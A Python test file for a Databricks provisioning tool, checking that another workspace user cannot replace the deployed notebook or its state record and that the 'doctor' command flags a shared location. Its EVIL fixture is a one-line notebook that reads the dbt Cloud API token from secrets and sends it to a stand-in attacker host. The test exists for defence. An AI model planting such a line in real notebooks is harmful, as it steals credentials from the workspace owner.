"""The attacker's cases about where dbtwf keeps the notebook, the state record and the token:
another workspace user editing the notebook, a second identity applying the same
environment, a workspace that is not on the Premium plan. Real HTTP against the emulators;
the other user is a second principal of the Databricks emulator with its own token."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from databricks.sdk import WorkspaceClient

from provision.databricks import Workspace
from provision.errors import RemoteError
from tests.conftest import DBT_CLOUD_TOKEN
from tests.provision_helpers import configured_cli, make_workspace

DBT_JOB = 42
MALLORY = "mallory@example.com"
MALLORY_TOKEN = "dapi-mallory"
EVIL = "# Databricks notebook source\nsend(dbutils.secrets.get('dbtwf-dev', 'dbt-cloud-api-token'), 'https://evil.invalid')\n"


@pytest.fixture
def invoke(
    tmp_path: Path, databricks: Any, dbt_cloud: Any, monkeypatch: pytest.MonkeyPatch
) -> Callable[..., Any]:
    dbt_cloud.add_job(DBT_JOB)
    return configured_cli(tmp_path, monkeypatch, databricks.url, dbt_cloud.url, DBT_JOB)


@pytest.fixture
def mallory(databricks: Any) -> Workspace:
    """Another ordinary user of the same workspace."""
    databricks.add_user(MALLORY_TOKEN, MALLORY)
    return Workspace(WorkspaceClient(host=databricks.url, token=MALLORY_TOKEN))


def set_notebook_path(tmp_path: Path, path: str) -> None:
    config = tmp_path / "dbtwf.toml"
    config.write_text(
        config.read_text().replace(
            "[environments.dev.dbt_jobs]",
            f'[environments.dev]\nnotebook_path = "{path}"\n\n[environments.dev.dbt_jobs]',
        ),
        encoding="utf-8",
    )


def test_under_shared_another_user_rewrites_the_notebook_and_doctor_fails(
    invoke: Callable[..., Any], databricks: Any, mallory: Workspace, tmp_path: Path
) -> None:
    shared = "/Shared/dbtwf/dev/run_dbt_cloud_job"
    set_notebook_path(tmp_path, shared)
    assert invoke("apply", "--yes").exit_code == 0
    # What the old default allowed: any user replaces the code that reads the token, and the
    # state record destroy trusts.
    mallory.import_notebook(shared, EVIL, overwrite=True)
    mallory.write_file("/Shared/dbtwf/dev/.dbtwf-state-dev.json", b'{"environment": "dev"}', overwrite=True)
    assert b"evil.invalid" in (databricks.workspace_file(shared) or b"")
    code, checks = _doctor(invoke)
    assert code == 1
    assert checks["notebook location"]["status"] == "fail"
    assert "every workspace user can edit" in checks["notebook location"]["detail"]


def test_in_the_home_folder_another_user_can_change_nothing(
    invoke: Callable[..., Any], databricks: Any, mallory: Workspace
) -> None:
    assert invoke("apply", "--yes").exit_code == 0
    folder = f"/Users/{databricks.user_name}/.dbtwf/dev"
    notebook = f"{folder}/run_dbt_cloud_job"
    uploaded = databricks.workspace_file(notebook)
    state = databricks.workspace_file(f"{folder}/.dbtwf-state-dev.json")
    attempts: list[Callable[[], object]] = [
        lambda: mallory.import_notebook(notebook, EVIL, overwrite=True),
        lambda: mallory.write_file(f"{folder}/.dbtwf-state-dev.json", b"{}", overwrite=True),
        lambda: mallory.write_file(f"{folder}/.dbtwf-lock-dev.json", b"{}", overwrite=False),
        lambda: mallory.delete(f"{folder}/.dbtwf-state-dev.json"),
        lambda: mallory.export_source(notebook),
    ]
    for attempt in attempts:
        with pytest.raises(RemoteError, match="permission denied"):
            attempt()
    assert databricks.workspace_file(notebook) == uploaded
    assert databricks.workspace_file(f"{folder}/.dbtwf-state-dev.json") == state
    code, checks = _doctor(invoke)
    assert code == 0, checks
    assert checks["notebook location"]["status"] == "ok"


def _doctor(invoke: Callable[..., Any]) -> tuple[int, dict[str, dict[str, Any]]]:
    result = invoke("doctor", "--json")
    assert DBT_CLOUD_TOKEN not in result.output
    return result.exit_code, {c["name"]: c for c in json.loads(result.stdout)["checks"]}


def test_the_job_runs_the_notebook_in_the_home_folder(
    invoke: Callable[..., Any], databricks: Any, dbt_cloud: Any
) -> None:
    # The job runs as its creator, the deployer, who can read its own home folder.
    assert invoke("apply", "--yes").exit_code == 0
    result = invoke("run")
    assert result.exit_code == 0, result.output
    assert len(dbt_cloud.runs_of(DBT_JOB)) == 1
    assert make_workspace(databricks).current_user_name() == databricks.user_name
